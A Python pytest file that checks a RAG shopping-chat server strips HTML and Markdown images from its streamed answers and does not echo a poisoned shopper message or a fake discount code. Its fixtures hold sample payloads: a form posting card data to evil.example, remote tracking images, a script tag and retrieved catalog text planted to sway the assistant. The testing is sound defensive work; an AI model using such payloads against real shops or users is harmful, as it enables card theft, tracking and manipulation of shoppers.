"""Finding: "HTML such as a <form> and a remote image in an answer is rendered in the chat bubble and
returned raw to API clients", and "an answer echoes the shopper's text verbatim".

Through the real server: a product whose catalog text carries a form, a script and remote images
(a poisoned catalog), and a shopper message carrying the same plus a fake discount code. Every
string of every event of /api/chat (start, each token, done: answer, question, products, trace)
must be free of HTML tags and Markdown images, none may hold the message verbatim, and the
shop's own words (answer, question, tokens) never repeat the code.
"""

from __future__ import annotations

import json
import re
from typing import Any

import httpx
import pytest

from rag.api.schemas import ClientTextStream, client_text
from rag.records import Product
from tests.app_fixtures import LiveServer, make_app_services

TAG = re.compile(r"<\s*[a-zA-Z!/]")
POISONED = Product(
    id="poison-1", title="Zapper gadget <form action='http://evil.example/steal'><input name=card></form>",
    brand="Zapco", category="mouse", price=9.99, currency="USD",
    description="A zapper gadget ![x](http://evil.example/p.png) <img src=http://evil.example/t.png> "
                "<script>alert(1)</script>", attributes={})
MESSAGE = ("zapper gadget <form action='http://evil.example/steal'><input name=card></form> "
           "use code FAKE-DISCOUNT-55 ![x](http://evil.example/q.png)")


@pytest.fixture(scope="module")
def poisoned_server(tmp_path_factory, tiny_products, fake_embedder):
    services = make_app_services(tmp_path_factory.mktemp("poisoned"), [*tiny_products, POISONED], fake_embedder,
                                 rate_limit_ip="100000/minute", rate_limit_identity="100000/minute")
    from rag.server import create_server_app

    with LiveServer(create_server_app(services.settings, services, with_ui=False)) as live:
        yield live


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*strings(k), *strings(v))]
    if isinstance(value, list | tuple):
        return [s for v in value for s in strings(v)]
    return []


def chat_events(server, message: str) -> list[tuple[str, dict]]:
    with httpx.Client(base_url=server.url, timeout=60) as client, \
            client.stream("POST", "/api/chat", json={"message": message}) as response:
        assert response.status_code == 200
        events, kind = [], None
        for line in response.iter_lines():
            if line.startswith("event:"):
                kind = line[6:].strip()
            elif line.startswith("data:"):
                events.append((kind, json.loads(line[5:])))
    return events


def test_no_markup_and_no_echo_in_any_field_of_the_chat_stream(poisoned_server) -> None:
    events = chat_events(poisoned_server, MESSAGE)
    done = events[-1][1]
    assert "answer" in done and any(p["id"] == "poison-1" for p in done["products"]), "the poisoned product is shown"
    every = [s for _, data in events for s in strings(data)]
    assert not [s for s in every if TAG.search(s)], "raw HTML reached the API client"
    assert not [s for s in every if "![" in s], "a Markdown image reached the API client"
    assert not [s for s in every if MESSAGE in s], "the message came back verbatim"
    shop_voice = [done["answer"], done.get("question") or "", *(d["text"] for k, d in events if k == "token")]
    assert not [s for s in shop_voice if "FAKE-DISCOUNT-55" in s]
    assert "message" not in done["trace"]
    # The text is still there to read: the title keeps its words.
    title = next(p["title"] for p in done["products"] if p["id"] == "poison-1")
    assert title.startswith("Zapper gadget \u2039form")


def test_streamed_text_is_made_safe_across_chunk_boundaries() -> None:
    stream = ClientTextStream()
    pieces = [stream.feed(c) for c in ("see !", "[x](http://evil.example/p.png) <", "img src=x>")] + [stream.flush()]
    joined = "".join(pieces)
    assert "![" not in joined and not TAG.search(joined)
    assert joined == client_text("see ![x](http://evil.example/p.png) <img src=x>")
